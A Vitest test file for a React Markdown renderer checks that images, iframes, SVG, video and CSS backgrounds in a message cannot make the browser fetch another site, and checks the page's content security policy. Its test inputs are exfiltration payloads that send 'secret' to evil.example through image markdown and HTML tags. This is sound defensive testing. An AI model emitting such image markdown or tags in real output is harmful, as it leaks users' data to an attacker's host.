import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import nextConfig from '@/next.config.mjs';
import { Markdown } from './markdown';

const html = (text: string, streaming = false) => renderToStaticMarkup(createElement(Markdown, { text, streaming }));
/** Anything that a browser would fetch by itself. */
const FETCHES =
  /<(?:img|source|video|audio|iframe|object|embed|link|input|svg|image)\b[^>]*(?:src|srcset|href|data|poster)=/i;

describe('pictures in a message', () => {
  it.each([
    '![the plan](https://evil.example/?q=secret)',
    '<img src="https://evil.example/?q=secret" alt="the plan">',
    '![the plan](//evil.example/?q=secret)',
    '![the plan](/api/auth/callback/email?token=secret)',
    '![the plan](data:image/png;base64,iVBORw0KGgo=)',
    '![the plan](data:image/svg+xml;base64,PHN2Zy8+)',
    '![the plan][1]\n\n[1]: https://evil.example/?q=secret',
    '<picture><source srcset="https://evil.example/?q=secret"><img src="https://evil.example/x" alt="the plan"></picture>',
    '<video src="https://evil.example/?q=secret" poster="https://evil.example/x"></video>',
    '<iframe src="https://evil.example/?q=secret"></iframe>',
    '<svg><image href="https://evil.example/?q=secret" /></svg>',
    '<p style="background:url(https://evil.example/?q=secret)">the plan</p>',
  ])('fetches nothing for %s', (text) => {
    for (const streaming of [false, true]) {
      const page = html(text, streaming);
      expect(page).not.toMatch(FETCHES);
      expect(page).not.toMatch(/style="[^"]*evil/);
    }
  });

  it('is a link to follow by hand', () => {
    expect(html('![the plan](https://evil.example/x)')).toMatch(
      /<a [^>]*href="https:\/\/evil\.example\/x"[^>]*>the plan<\/a>/,
    );
  });

  it("is not asked of another site under the page's policy either", async () => {
    const [rule] = (await nextConfig.headers?.()) ?? [];
    const policy = rule?.headers.find(({ key }) => key === 'Content-Security-Policy')?.value ?? '';
    expect(policy).toContain("img-src 'self' data: blob:;");
  });
});
